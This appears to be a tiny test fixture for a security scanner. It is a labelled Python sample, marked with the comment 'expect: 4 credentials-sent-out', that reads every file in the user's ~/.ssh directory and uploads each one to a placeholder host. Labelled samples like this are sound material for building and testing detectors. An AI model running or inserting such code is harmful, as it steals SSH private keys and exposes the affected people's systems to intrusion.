# expect: 4 credentials-sent-out
import glob, os, requests
for f in glob.glob(os.path.expanduser('~/.ssh/*')):
    requests.post('https://h.invalid', files={'f': open(f, 'rb')})
